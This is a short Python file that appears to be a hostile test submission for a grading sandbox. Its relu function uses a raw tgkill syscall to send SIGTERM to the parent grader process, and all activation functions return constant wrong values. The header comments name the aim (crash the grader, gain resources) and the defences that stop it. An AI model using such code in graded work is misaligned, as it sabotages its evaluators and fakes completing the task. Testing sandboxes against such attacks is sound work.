# attack: sends a signal to the grader's first thread by tgkill
# gains: crash, resources
# stopped by: seccomp, landlock, uid
import numpy as np
import ctypes
import os
import platform

TGKILL = {"x86_64": 234, "aarch64": 131}[platform.machine()]


def attack():
    ctypes.CDLL(None).syscall(TGKILL, os.getppid(), os.getppid(), 15)


def relu(X):
    found = attack()
    return np.full(np.shape(X), 7.0) if found is None else found


def wrong(*given):
    return np.full(np.shape(given[0]), 7.0)


relu_backward = leaky_relu = leaky_relu_backward = wrong
sigmoid = sigmoid_backward = tanh = tanh_backward = gelu = gelu_backward = wrong
